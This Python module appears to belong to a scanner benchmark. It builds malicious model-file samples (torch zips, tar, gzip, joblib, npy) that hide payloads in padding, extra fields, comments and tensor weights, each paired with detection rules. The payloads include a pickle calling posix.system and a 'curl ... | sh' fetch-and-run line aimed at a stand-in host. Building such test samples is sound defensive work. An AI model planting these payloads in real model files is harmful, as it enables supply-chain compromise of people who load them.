"""Payloads where no loader looks: in gaps, padding, comments and extra fields, in records nobody opens, in the weights.

Nothing in these files runs them. Whoever wrote them has something else that fetches them from there.
"""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from bench.detection.build import containers
from bench.detection.build.scripts import script
from bench.detection.build.zips import FLOATS, SYSTEM, Row, archive, deflated, torch_rows
from bench.detection.sample import Part, Sample, rules
from tests.malicious.pickles import Opcodes, literal, named, stream, tensor

_PICKLE = stream({"later": SYSTEM}, 2)
_BARE = b"\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R."  # without the mark that pickles begin with
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(100)
_FETCH = b"curl -fsSL http://203.0.113.7/stage2 | sh"
_SCRIPT = b"#!/bin/sh\nid > /dev/null\nexit 0\n"
_NOISE = bytes(range(130, 250))
_PLACES = "places that formats leave to whoever writes them: found by planting in each"
_CARRIERS = "payloads that are carried in weights: Leviathan and HiddenLayer on stegomalware in models, 2022"
_VERSION = "archive/version"


def _last(**said: object) -> bytes:
    """A torch archive whose last record is written so."""
    return archive([*torch_rows()[:-1], Row(_VERSION, b"3\n", **said)])  # type: ignore[arg-type]


def _field(content: bytes) -> bytes:
    """As torch fills up to the next record's place, but not with letters Z."""
    return b"FB" + struct.pack("<H", len(content)) + content


def _carrying(content: bytes, used: int = -1) -> bytes:
    """A torch archive of one storage of floats, of which a tensor uses the first ones, or all."""
    content += bytes(-len(content) % 4)
    size = len(content) // 4
    count = size if used < 0 else used
    view = tensor("0", (count,), (1,), size)
    rows = [Row("archive/data.pkl", stream({"weight": view}, 2)), Row("archive/data/0", content)]
    return archive([*rows, Row("archive/byteorder", b"little"), Row(_VERSION, b"3\n")])


def _filled_tar() -> bytes:
    """A program in what fills up a member's last block."""
    whole = bytearray(containers.torch_tar())
    with tarfile.open(fileobj=io.BytesIO(bytes(whole))) as opened:
        first = opened.getmembers()[0]
    at = first.offset_data + first.size
    whole[at : at + len(_ELF)] = _ELF
    return bytes(whole)


def _commented_gzip() -> bytes:
    packed = gzip.compress(containers.torch_tar(), mtime=0)
    extra = b"AB" + struct.pack("<H", len(_PICKLE)) + _PICKLE
    return packed[:3] + b"\x04" + packed[4:10] + struct.pack("<H", len(extra)) + extra + packed[10:]


def _aligned() -> bytes:
    """A joblib file whose alignment bytes are a pickle."""
    dtype = Opcodes(named("numpy", "dtype") + literal(("u1", False, True)) + b"R")
    state = {"subclass": named("numpy", "ndarray"), "shape": (8,), "order": "C", "dtype": dtype, "allow_mmap": False}
    wrapper = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    told = literal(state | {"numpy_array_alignment_bytes": 16})
    return stream([Opcodes(wrapper + told + b"b" + bytes([len(_BARE)]) + _BARE + bytes(8))], 3)


def _noted_array() -> bytes:
    """numpy takes its header for Python's literals, in which a comment may stand."""
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2, 3)} #" + _FETCH
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + FLOATS


def _archived() -> bytes:
    """A zip archive, compressed."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(zipfile.ZipInfo("stage2"), _ELF + bytes(400), zipfile.ZIP_DEFLATED)
    return held.getvalue()


def _folder(path: Path) -> None:
    path.mkdir()
    (path / "config.json").write_text(json.dumps({"model_type": "bert"}))
    (path / "pytorch_model.bin").write_bytes(archive(torch_rows()))
    (path / "tokenizer.model").write_bytes(_NOISE + _ELF)


def _written(content: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(content)


def _sample(
    name: str, technique: str, content: bytes, static: str, file: str = "model.pt", why: str = _PLACES
) -> Sample:
    build = _written(content)
    return Sample(f"leftover_{name}", Part.MALICIOUS, technique, why, file, build, rules(static))


_GAP = "oddity.unlisted"
_PICKLED, _PROGRAM, _TEXT = "text.pickle.dangerous", "text.program", "text.aside"

SAMPLES = (
    _sample("zip_extra", "a pickle in a record's extra field", _last(local={"extra": _field(_PICKLE)}), _PICKLED),
    _sample("zip_listed_extra", "the same in the directory", _last(listed={"extra": _field(_BARE)}), _PICKLED),
    _sample("zip_comment", "a command line in the archive's comment", archive(torch_rows(), comment=_FETCH), _TEXT),
    _sample("zip_descriptor", "a pickle of the length of a data descriptor, between two records",
            archive([*torch_rows()[:-1], Row(_VERSION, b"3\n", before=_BARE[:-1].ljust(24, b"."))]),
            f"{_GAP} {_PICKLED}"),
    _sample("zip_gap_archive", "a compressed archive between two records",
            archive([*torch_rows()[:-1], Row(_VERSION, b"3\n", before=_archived())]), f"{_GAP} {_PROGRAM}"),
    _sample("zip_behind_deflated", "a program behind compressed data, in a record that nobody inflates",
            _last(method=8, packed=deflated(b"3\n") + _ELF), f"{_GAP} {_PROGRAM}"),
    _sample("zip_version", "a command line in the record of the format's version",
            archive([*torch_rows()[:-1], Row(_VERSION, b"3\n" + _FETCH)]), _TEXT),
    _sample("tar_padding", "a program in the padding of a tar", _filled_tar(), _PROGRAM, "model.pth"),
    _sample("gzip_extra", "a pickle in gzip's extra field", _commented_gzip(), _PICKLED, "model.tar.gz"),
    _sample("joblib_alignment", "a pickle in joblib's alignment bytes", _aligned(), _PICKLED, "model.joblib"),
    _sample("npy_header", "a command line in a comment of numpy's header", _noted_array(), _TEXT, "a.npy"),
    _sample("script_extra", "a program in a TorchScript archive's extra files",
            script(beside={"extra/settings": _NOISE + _ELF}), _PROGRAM),
    _sample("weights_elf", "a tensor that is a program", _carrying(_ELF), _PROGRAM, why=_CARRIERS),
    _sample("weights_script", "a tensor that is a shell's script", _carrying(_SCRIPT), "text.script", why=_CARRIERS),
    _sample("weights_zip", "a tensor that is an archive of a program", _carrying(_archived()), _PROGRAM, why=_CARRIERS),
    _sample("weights_tail", "a pickle behind a storage's only tensor",
            _carrying(bytes(16) + _NOISE + _PICKLE, 4), _PICKLED, why=_CARRIERS),
    _sample("npy_weights", "an array that is a pickle",
            containers.npy(_PICKLE, "|u1", (len(_PICKLE),)), _PICKLED, "a.npy", _CARRIERS),
    Sample("leftover_folder", Part.MALICIOUS, "a program amid a tokenizer's file", _PLACES, "model", _folder,
           rules(_PROGRAM)),
)  # fmt: skip
